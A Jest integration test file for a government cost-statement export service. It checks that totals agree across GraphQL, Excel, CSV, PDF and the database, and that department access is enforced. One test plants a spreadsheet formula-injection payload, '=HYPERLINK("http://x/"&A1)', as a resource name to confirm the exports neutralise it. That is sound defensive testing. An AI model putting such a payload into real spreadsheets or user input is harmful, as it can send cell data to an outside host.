import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { StatementsService } from '../../server/src/accounting/statements.service.js';
import { CostCells } from '../../server/src/costs/cost-cells.service.js';
import { totalFen } from '../../server/src/exports/domain/report-layout.js';
import { rmbWords } from '../../server/src/exports/domain/rmb-words.js';
import { TABLE_LINES_MAX } from '../../server/src/exports/report-files.js';
import { SpendReports } from '../../server/src/exports/spend-reports.service.js';
import { StatementReports } from '../../server/src/exports/statement-report.service.js';
import { toNodeId } from '../../server/src/kernel/node-id.js';
import { ok } from '../../server/src/kernel/result.js';
import { WHOLE_PROVINCE } from '../../server/src/kernel/viewer.js';
import { EntriesService } from '../../server/src/spend/entries.service.js';
import { as, bearer, ExportDesk, fenOf, type Query, sumOf } from '../support/export-desk.ts';

const LINES = `query L($month: String!, $id: ID) {
  statementResources(first: 20, month: $month, departmentId: $id) { nodes { lines { amount } corrections { amount } } } }`;

type Amounts = { readonly amount: string | null }[];
type Shown = { readonly lines: Amounts; readonly corrections: Amounts };

let desk: ExportDesk;
beforeAll(async () => {
  desk = await ExportDesk.open();
}, 120_000);
afterAll(() => desk.close());

describe('reports on government paper', () => {
  it('totals agree to the fen between GraphQL, Excel, CSV, FOCUS and the database (invariants 7 and 14)', async () => {
    await desk.accounts.get(CostCells).take();
    const own = toNodeId('Department', desk.accounts.bureau.id);
    for (const month of ['2026-09', '2026-10'])
      for (const department of [own, null]) {
        const query = { month, ...(department ? { department } : {}) };
        const graphql = BigInt((await desk.draft(month, department)).total.amount);
        const { rows, table, totals, words } = await desk.workbook('statement.xlsx', query);
        const at = totals.length - 1;
        expect([month, sumOf(table, at), fenOf(totals[at])]).toEqual([month, graphql, graphql]);
        expect([words?.[0], words?.[2]]).toEqual(['合计金额（大写）', rmbWords(graphql.toString())]);
        expect(rows.at(-2)).toEqual(expect.arrayContaining(['编制人：', '复核人：', '单位负责人：', '（盖章）']));
        const csv = (await (await desk.download('statement.csv', query, as(desk.people.finance))).text())
          .trim()
          .split('\r\n');
        expect(fenOf(csv.at(-1)?.split(',').at(-1))).toBe(graphql);
        expect((await desk.focus(query)).billed).toBe(graphql);
        const [row] = await desk.sql(
          `select sum(l.amount_fen) as fen from ${desk.accounts.audit}.closed_line l join closing c on c.id = l.document_id
           where c.live = 1 and c.kind = 'STATEMENT' and c.book = 'PROVINCE' and c.of_month = ?
             ${department ? 'and l.department_id = ?' : ''}`,
          department ? [month, desk.accounts.bureau.id] : [month],
        );
        expect(BigInt(row.fen)).toBe(graphql);
        if (department === null) {
          const pivot = await desk.workbook('costs.xlsx', {
            rows: 'SYSTEM',
            columns: 'CENTER',
            from: month,
            to: month,
          });
          expect(fenOf(pivot.totals.at(-1))).toBe(graphql);
          for (const column of pivot.header.keys())
            if (column > 0) expect(sumOf(pivot.table, column)).toBe(fenOf(pivot.totals[column]));
        }
      }
  });

  it('adds up in 万元: rows to 小计, 小计 to 合计, and the words stay exact', async () => {
    const query = {
      month: '2026-09',
      department: toNodeId('Department', desk.accounts.bureau.id),
      unit: 'TEN_THOUSAND',
    };
    const { rows, table, totals, words } = await desk.workbook('statement.xlsx', query);
    expect(rows[2]?.at(-1)).toBe('单位：万元');
    const at = totals.length - 1;
    expect(sumOf(table, at)).toBe(fenOf(totals[at]));
    const subtotals = table.filter(([first]) => String(first).endsWith(' 小计'));
    expect(subtotals.length).toBe(2);
    expect(subtotals.reduce((sum, row) => sum + fenOf(row[at]), 0n)).toBe(fenOf(totals[at]));
    expect(words?.[2]).toBe(rmbWords((await desk.draft('2026-09', query.department)).total.amount));
  });

  it('says its unit in every file, in CSV by the column', async () => {
    const query = { month: '2026-09', department: toNodeId('Department', desk.accounts.bureau.id) };
    const headOf = async (more: Query) =>
      (await (await desk.download('statement.csv', { ...query, ...more }, as(desk.people.finance))).text()).split(
        '\r\n',
      )[0];
    expect(await headOf({})).toMatch(/,单价（元）,.*,金额（元）$/);
    expect(await headOf({ unit: 'TEN_THOUSAND' })).toMatch(/,单价（元）,.*,金额（万元）$/);
  });

  it('says of a part of a common cost how large a part it is', async () => {
    const query = { month: '2026-09', department: toNodeId('Department', desk.accounts.bureau.id) };
    const { table } = await desk.workbook('statement.xlsx', query);
    const parts = table.filter((row) => row[2] === 'exports-network');
    expect(parts.length).toBeGreaterThan(0);
    for (const row of parts) {
      const [, percent = ''] = /^分摊 (\d+\.\d\d)%$/.exec(String(row[6])) ?? [];
      // To a hundredth of a percent, of 12,345.67 yuan.
      expect(Math.abs(Number(row.at(-1)) - 123.4567 * Number(percent))).toBeLessThan(0.65);
    }
  });

  it('says of an open month that it is not closed, of a correction what it corrects', async () => {
    const department = toNodeId('Department', desk.accounts.bureau.id);
    const open = await desk.workbook('statement.xlsx', { month: '2026-11', department });
    expect(open.rows[1]?.[0]).toBe('2026-11（未结账）');
    expect(fenOf(open.totals.at(-1))).toBe(BigInt((await desk.draft('2026-11', department)).total.amount));
    const later = await desk.workbook('statement.xlsx', { month: '2026-10', department });
    expect(later.rows[1]?.[0]).toBe('2026-10（已结账）');
    expect(later.table.some((row) => row[5] === '2026-09' && row[6] === '调价更正')).toBe(true);
  });

  it('has budget execution item by item, which comes to what GraphQL says of the year', async () => {
    const { header, table, totals } = await desk.workbook('budgets.xlsx', { year: '2026' });
    const { budgetTotals } = await desk.people.finance.data(
      '{ budgetTotals(filter: { year: 2026 }) { figures { amount reserved spent available } } }',
    );
    const { amount, available, reserved, spent } = budgetTotals.figures;
    const expected = { 预算数: amount, 已占用: reserved, 已列支: spent, 可用: available };
    for (const [title, fen] of Object.entries(expected)) {
      const at = header.indexOf(title);
      expect([title, fenOf(totals[at]), sumOf(table, at)]).toEqual([
        title,
        BigInt(fen as string),
        BigInt(fen as string),
      ]);
    }
  });

  it('has reconciliation, contracts and payments for those alone who read spend', async () => {
    for (const [path, query] of [
      ['reconciliation', { year: '2026' }],
      ['contracts', {}],
      ['payments', {}],
    ] as const) {
      const { totals, table } = await desk.workbook(`${path}.xlsx`, query as Query);
      for (const at of totals.keys())
        if (typeof totals[at] === 'number') expect([path, at, sumOf(table, at)]).toEqual([path, at, fenOf(totals[at])]);
      expect((await desk.download(`${path}.xlsx`, query as Query, as(desk.people.head))).status).toBe(403);
    }
    // They are the province's: a token of one department's is refused as it is made.
    const narrow = await desk.askToken(desk.people.finance, {
      exports: ['CONTRACTS'],
      departmentId: toNodeId('Department', desk.accounts.bureau.id),
    });
    expect(narrow.data.createExportToken).toMatchObject({
      secret: null,
      errors: [{ code: 'INVALID_INPUT', path: ['exports'] }],
    });
  });

  it('runs no formula of a name that somebody gave, in any file', async () => {
    const name = '=HYPERLINK("http://x/"&A1)';
    await desk.sql('update metered_resource set name = ? where resource_id = ?', [name, desk.resourceId]);
    const query = { month: '2026-09', department: toNodeId('Department', desk.accounts.bureau.id) };
    const { sheet, table } = await desk.workbook('statement.xlsx', query);
    expect(table.some((row) => row[1] === name)).toBe(true);
    for (const cell of sheet?.cells?.values() ?? []) expect(cell.formula).toBeUndefined();
    const csv = await (await desk.download('statement.csv', query, as(desk.people.finance))).text();
    expect(csv).toContain(`"'=HYPERLINK(""http://x/""&A1)"`);
    // A negative amount stays a number.
    expect(csv).not.toContain("'-");
    expect((await desk.focus(query)).text).toContain(`"'=HYPERLINK(""http://x/""&A1)"`);
    await desk.sql("update metered_resource set name = 'vm' where resource_id = ?", [desk.resourceId]);
  });

  it('of more lines than a paper takes is in sums by system and kind, and every line is in the annex', async () => {
    const reports = desk.accounts.get(StatementReports);
    const department = desk.accounts.bureau.id;
    const query = { month: '2026-09', department: toNodeId('Department', department) };
    const graphql = BigInt((await desk.draft('2026-09', query.department)).total.amount);
    const of = async (most: number) => {
      const made = await reports.of(WHOLE_PROVINCE, '2026-09', department, 'PROVINCE', most);
      if (!made.ok) throw new Error('a statement is never refused for its length');
      return { ...made.value, total: totalFen(made.value, made.value.inWords) };
    };
    const csv = (await (await desk.download('statement.csv', query, as(desk.people.finance))).text())
      .trim()
      .split('\r\n');
    const lines = csv.length - 2;
    const systems = 2;
    // 小计 and 合计 are lines, too.
    const whole = await of(lines + systems + 1);
    expect(whole.columns.length).toBe(8);
    expect(whole.groups.reduce((sum, { rows }) => sum + rows.length, 0)).toBe(lines);
    for (const most of [lines + systems, 5, 1]) {
      const sums = await of(most);
      expect([most, sums.total]).toEqual([most, graphql]);
      expect(sums.columns.map(({ title }) => title)).toContain('资源类别');
      expect(sums.notes.at(-1)).toContain('附表（CSV）');
      expect(sums.title).toBe(whole.title);
    }
    expect(whole.total).toBe(graphql);
    // Every line of the paper is in the annex as it is there, and what it comes to stands at its end.
    const cells = csv.slice(1, -1).map((row) => row.split(','));
    expect(cells.map((row) => row[0]).toSorted()).toEqual(
      whole.groups.flatMap(({ rows }) => rows.map(([code]) => String(code))).toSorted(),
    );
    expect(cells.reduce((sum, row) => sum + fenOf(row.at(-1)), 0n)).toBe(graphql);
    expect(fenOf(csv.at(-1)?.split(',').at(-1))).toBe(graphql);
  });

  it('has of a use that was another’s for a part of the month what was its own alone', async () => {
    const { bureau, other } = desk.accounts;
    const give = (id: string) =>
      desk.sql(
        "update rated_line set department_id = ? where month = '2026-11' and resource_id = ? and meter = 'VCPU'",
        [id, desk.resourceId],
      );
    expect((await give(other.id)).affectedRows).toBeGreaterThan(0);
    for (const { id } of [bureau, other]) {
      const query = { month: '2026-11', department: toNodeId('Department', id) };
      const graphql = BigInt((await desk.draft(query.month, query.department)).total.amount);
      const { table, totals } = await desk.workbook('statement.xlsx', query);
      const at = totals.length - 1;
      expect([sumOf(table, at), fenOf(totals[at])]).toEqual([graphql, graphql]);
      const csv = (await (await desk.download('statement.csv', query, as(desk.people.finance))).text())
        .trim()
        .split('\r\n');
      expect(fenOf(csv.at(-1)?.split(',').at(-1))).toBe(graphql);
      const { statementResources } = await desk.people.finance.data(LINES, {
        month: query.month,
        id: query.department,
      });
      const lines = (statementResources.nodes as Shown[]).flatMap((use) => [...use.lines, ...use.corrections]);
      expect(lines.reduce((sum, { amount }) => sum + BigInt(amount ?? 0), 0n)).toBe(graphql);
    }
    await give(bureau.id);
  });

  it('reads no row of a list that is too long for its file', async () => {
    const entries = desk.accounts.get(EntriesService);
    const page = jest.spyOn(entries, 'page');
    page.mockResolvedValueOnce({ rows: [], totalCount: TABLE_LINES_MAX, hasNextPage: true });
    expect((await desk.download('payments.xlsx', {}, as(desk.people.finance))).status).toBe(422);
    expect(page).toHaveBeenCalledTimes(1);
    page.mockRestore();
  });

  it('is a paper, too; the same facts are the same paper', async () => {
    const query = { month: '2026-09', department: toNodeId('Department', desk.accounts.bureau.id) };
    const paper = async () =>
      Buffer.from(await (await desk.download('statement.pdf', query, as(desk.people.finance))).arrayBuffer());
    const [one, other] = [await paper(), await paper()];
    expect(one.subarray(0, 5).toString()).toBe('%PDF-');
    expect(one.equals(other)).toBe(true);
  });

  it('says on the paper of what alone it is: department, system, center, and what its reader may see', async () => {
    const noteOf = async (query: Query, headers = as(desk.people.finance)) =>
      (await desk.workbook('costs.xlsx', { from: '2026-09', to: '2026-10', ...query }, headers)).rows.flat().join('\n');
    const [owned] = await desk.sql("select id, name from government_system where code = 'XT-EXPORTS'");
    const [center] = await desk.sql('select id, name from center where id = ?', [desk.centerIds[0]]);
    const bureau = toNodeId('Department', desk.accounts.bureau.id);
    const ids = { department: bureau, system: toNodeId('System', owned.id), center: toNodeId('Center', center.id) };
    expect(await noteOf(ids)).toContain(
      `仅列示单位为${desk.accounts.bureau.name}，系统为${owned.name}，数据中心为${center.name}的费用。`,
    );
    expect(await noteOf({ project: 'NONE' })).toContain('仅列示未归属项目的费用。');
    expect(await noteOf({})).not.toContain('仅列示');
    const { secret } = await desk.token(desk.people.finance, { exports: ['COSTS'], departmentId: bureau });
    expect(await noteOf({}, bearer(secret))).toContain(`仅列示${desk.accounts.bureau.name}的费用。`);
  });

  it('refuses a word that it does not know, instead of leaving it out and giving more than was asked for', async () => {
    const range = { from: '2026-09', to: '2026-10' };
    for (const more of [
      { kind: 'VM' },
      { share: 'main' },
      { columns: 'X' },
      { rows: 'X' },
      { unit: '万元' },
      { dr: '0' },
    ] as Query[])
      expect([more, (await desk.download('costs.csv', { ...range, ...more }, as(desk.people.finance))).status]).toEqual(
        [more, 422],
      );
    expect(await desk.focus({ month: '2026-09', side: 'CITY' })).toEqual({ status: 422, code: 'INVALID_INPUT' });
  });

  it('is refused where it would end before its last row, or hold more rows than are made at once', async () => {
    const statements = desk.accounts.get(StatementsService);
    const page = jest.spyOn(statements, 'departments');
    page.mockResolvedValueOnce({ rows: [], totalCount: 2_001, hasNextPage: true });
    expect((await desk.download('statement.xlsx', { month: '2026-09' }, as(desk.people.finance))).status).toBe(422);
    page.mockRestore();
    const payments = jest.spyOn(desk.accounts.get(SpendReports), 'payments');
    const columns = [
      { title: '凭证号', share: 1 },
      { title: '金额', share: 1, money: true },
    ];
    const rows = Array.from({ length: TABLE_LINES_MAX }, () => ['x', { fen: 1n }]);
    payments.mockResolvedValueOnce(
      ok({ ...{ title: '付款明细表', subtitle: '', columns, inWords: 1, notes: [] }, groups: [{ name: '', rows }] }),
    );
    expect((await desk.download('payments.xlsx', {}, as(desk.people.finance))).status).toBe(422);
    payments.mockRestore();
  });

  it('shows a department its own and nothing else, and refuses what is asked wrongly', async () => {
    const other = toNodeId('Department', desk.accounts.bureau.id);
    const own = await desk.workbook('statement.xlsx', { month: '2026-09' }, as(desk.people.head));
    expect(fenOf(own.totals.at(-1))).toBe(BigInt((await desk.draft('2026-09', desk.ownDepartment)).total.amount));
    const status = async (path: string, query: Query, client = desk.people.head) =>
      (await desk.download(path, query, as(client))).status;
    expect(await status('statement.xlsx', { month: '2026-09', department: other })).toBe(404);
    expect(await status('statement.docx', { month: '2026-09' })).toBe(404);
    expect(await status('statement.xlsx', { month: '2026-9' })).toBe(422);
    expect(await status('costs.xlsx', { from: '2026-09', to: '2026-08' })).toBe(422);
    expect(await status('costs.xlsx', { from: '2026-09', to: '2026-09', rows: 'MONTH', columns: 'MONTH' })).toBe(422);
    expect(await status('budgets.xlsx', { year: 'x' })).toBe(422);
    const budgets = await desk.workbook('budgets.xlsx', { year: '2026' }, as(desk.people.head));
    const departments = new Set(budgets.table.map(([first]) => String(first).replace(/ 小计$/, '')));
    expect(departments.size).toBe(1);
    const costs = await desk.workbook(
      'costs.xlsx',
      { from: '2026-09', to: '2026-10', department: other },
      as(desk.people.head),
    );
    expect(fenOf(costs.totals.at(-1))).toBe(0n);
  });
});
